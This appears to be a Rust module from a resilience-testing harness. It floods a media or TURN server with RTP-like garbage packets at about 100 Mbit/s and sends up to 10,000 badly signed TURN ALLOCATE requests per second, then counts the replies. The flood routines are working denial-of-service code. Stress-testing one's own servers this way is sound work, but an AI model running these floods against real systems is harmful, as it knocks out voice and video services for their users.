//! Attacks on the port of media: packets that are none, and requests for allocations that nobody may have.

use std::time::{Duration, Instant};

use anyhow::Result;
use crowd::Door;
use stun_types::attribute::{Nonce, Realm, Username};
use stun_types::message::{IntegrityAlgorithm, LongTermCredentials, Message, MessageWriteVec};
use stun_types::prelude::*;
use tokio::net::UdpSocket;
use turn_types::attribute::RequestedTransport;
use turn_types::message::ALLOCATE;

use super::outcome::{Outcome, Target};

/// Bytes of a packet of garbage.
const PACKET: usize = 1200;
/// Bits a second of garbage.
const GARBAGE: u64 = 100_000_000;
/// Requests a second from each address, in all at most [`MOST_REQUESTS`].
const REQUESTS: u64 = 10_000;
/// Sockets of garbage.
const SOCKETS: u8 = 16;
/// The network of those who attack media.
const NETWORK: u8 = 11;
/// How often it is sent.
const TICK: Duration = Duration::from_millis(2);

/// Packets that begin as RTP does and mean nothing.
pub async fn garbage(target: Target) -> Result<Outcome> {
    let mut sockets = Vec::new();
    for number in 0..SOCKETS {
        let socket = UdpSocket::bind((Door::new(NETWORK, number + 1).address(), 0)).await?;
        socket.connect(target.address).await?;
        sockets.push(socket);
    }
    let mut packet = vec![0; PACKET];
    packet[..2].copy_from_slice(&[0x80, 0x60]);
    let per_second = GARBAGE / (8 * PACKET as u64);
    let sent = paced(target, per_second, |number| {
        let socket = &sockets[number as usize % sockets.len()];
        socket.try_send(&packet).is_ok()
    })
    .await;
    let mut outcome = Outcome::default();
    outcome.sent(&format!("packets of {PACKET} bytes"), sent);
    outcome.answered("answers", answers(&sockets));
    Ok(outcome)
}

/// Requests for allocations, signed with a password that is none.
pub async fn allocations(target: Target, addresses: u8) -> Result<Outcome> {
    let mut sockets = Vec::new();
    for number in 0..addresses {
        let socket = UdpSocket::bind((Door::new(NETWORK + 1, number + 1).address(), 0)).await?;
        socket.connect(target.address).await?;
        sockets.push(socket);
    }
    let request = request()?;
    let sent = paced(target, REQUESTS, |number| {
        let mut request = request.clone();
        // Transactions differ; the signature is wrong whatever they are.
        request[12..20].copy_from_slice(&number.to_be_bytes());
        sockets[number as usize % sockets.len()].try_send(&request).is_ok()
    })
    .await;
    let mut outcome = Outcome::default();
    outcome.sent("requests for an allocation", sent);
    outcome.answered("errors (401)", answers(&sockets));
    Ok(outcome)
}

fn request() -> Result<Vec<u8>> {
    let mut request = Message::builder_request(ALLOCATE, MessageWriteVec::new());
    request.add_attribute(&RequestedTransport::new(RequestedTransport::UDP))?;
    request.add_attribute(&Username::new("1999999999:1:1")?)?;
    request.add_attribute(&Realm::new("confab")?)?;
    request.add_attribute(&Nonce::new("none")?)?;
    let key = LongTermCredentials::new("1999999999:1:1".into(), "guessed".into()).to_key("confab".into());
    request.add_message_integrity(&key.into(), IntegrityAlgorithm::Sha1)?;
    Ok(request.finish())
}

/// Does something so often a second; how often it was done.
async fn paced(target: Target, per_second: u64, mut send: impl FnMut(u64) -> bool) -> u64 {
    let (start, end) = (Instant::now(), target.until());
    let (mut tried, mut sent) = (0, 0);
    while Instant::now() < end {
        let due = (start.elapsed().as_secs_f64() * per_second as f64) as u64;
        // Whoever was held up does not make up for all of it at once.
        tried = tried.max(due.saturating_sub(per_second / 10));
        while tried < due {
            sent += u64::from(send(tried));
            tried += 1;
        }
        tokio::time::sleep(TICK).await;
    }
    sent
}

/// How many packets have come back.
fn answers(sockets: &[UdpSocket]) -> u64 {
    let mut buffer = [0; 2048];
    let waiting = |socket: &UdpSocket| std::iter::from_fn(|| socket.try_recv(&mut buffer).ok()).count() as u64;
    sockets.iter().map(waiting).sum()
}
